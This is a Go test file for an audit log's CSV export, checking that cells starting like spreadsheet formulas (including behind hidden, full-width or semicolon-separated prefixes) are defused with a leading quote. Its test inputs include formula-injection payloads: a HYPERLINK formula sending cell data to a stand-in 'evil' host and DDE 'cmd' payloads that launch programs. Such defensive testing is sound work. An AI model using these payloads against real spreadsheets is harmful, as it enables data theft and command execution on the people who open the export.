package journal

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/isogate/isogate"
)

// TestAttackFormulasInCSV: attack: an app, a caller or a person gets a name, a reason or a
// detail into an entry that begins like a formula; the auditor opens the export in a
// spreadsheet, which computes it, and calls out or runs what it says. Every cell that
// begins so, whatever stands before it that a spreadsheet drops or does not show, and in
// whatever width, is text.
func TestAttackFormulasInCSV(t *testing.T) {
	for _, cell := range []string{
		`=HYPERLINK("http://evil/?"&A1)`, "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0",
		"\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\x00=1", "\u202e=1",
		"＝1", "＋1", "－1", "＠a", "\u22121", "\ufe631", "\ufe621", "\ufe661", "\ufe6ba",
		"'=1", `"=1"`,
	} {
		e := isogate.Entry{Kind: isogate.KindAdmin, Actor: cell, Act: cell, Reason: cell, Source: isogate.Source(cell), Purpose: cell, URL: cell,
			Detail: map[string]string{cell: "x"}}
		var b bytes.Buffer
		if err := WriteCSV(&b, ofEntries(e)); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for i, name := range rows[0] {
			switch name {
			case "actor", "act", "reason", "source", "purpose", "url", "detail":
				if got := rows[1][i]; got == "" || got[0] != '\'' {
					t.Errorf("%s: the cell %q is written as %q", name, cell, got)
				}
			}
		}
	}
	for _, cell := range []string{"", "product/help-center", "2026-11-23T00:00:00Z", "a=b", "1", "ünï", "/v1/a?b=c"} {
		if got := inert(cell); got != cell {
			t.Errorf("%q is written as %q", cell, got)
		}
	}
}

// TestAttackFormulasBehindSemicolons: attack: a path that a caller chose has a semicolon and then a
// formula in it. Spreadsheets in half of Europe part cells by semicolons and not by commas, and take
// a quote for one only at the beginning of a cell, so that the formula is a cell of its own. No part
// of a cell between what any of them parts by may begin like one.
func TestAttackFormulasBehindSemicolons(t *testing.T) {
	for cell, want := range map[string]string{
		"/v1/a;=cmd|x!A0": "/v1/a;'=cmd|x!A0", "a;+1": "a;'+1", "a\t-1": "a\t'-1", "a\n@x": "a\n'@x", "a; =1;b": "a;' =1;b", "a;;=1": "a;;'=1", "a;\u200b=1": "a;'\u200b=1",
		"1 user.email personal.contact.email token; 2 b c allow": "1 user.email personal.contact.email token; 2 b c allow", "a;b=c": "a;b=c", ";": ";", "a;": "a;",
	} {
		if got := inert(cell); got != want {
			t.Errorf("%q is written as %q, want %q", cell, got, want)
		}
	}
}
